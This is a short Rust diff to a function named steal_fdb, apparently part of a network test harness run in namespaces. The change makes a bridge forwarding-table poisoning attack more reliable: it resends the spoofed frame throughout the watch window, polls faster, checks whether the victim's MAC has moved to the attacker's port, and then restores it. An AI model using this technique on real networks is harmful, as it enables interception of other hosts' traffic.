@@ -374,9 +374,11 @@ pub fn steal_fdb(
         Transport::Udp { sport: 9, dport: 9 },
         b"fdb",
     )?;
-    a.send(&f)?;
     let deadline = Instant::now() + WATCH;
     let outcome = loop {
+        // Sent all through the window: should the victim speak meanwhile
+        // (a late echo reply), the next frame takes the entry back.
+        a.sock.send(&f)?;
         let now = neigh::port_of(host, victim_mac)?;
         if now == Some(attacker_port) {
             break Outcome::landed(format!(
@@ -390,7 +392,7 @@ pub fn steal_fdb(
                 fmt_mac(victim_mac)
             ));
         }
-        std::thread::sleep(Duration::from_millis(50));
+        std::thread::sleep(Duration::from_millis(20));
     };
     // The victim speaks again, so the bridge learns where it really is.
     prime(&victim.ns, victim.gateway_v4.into())?;
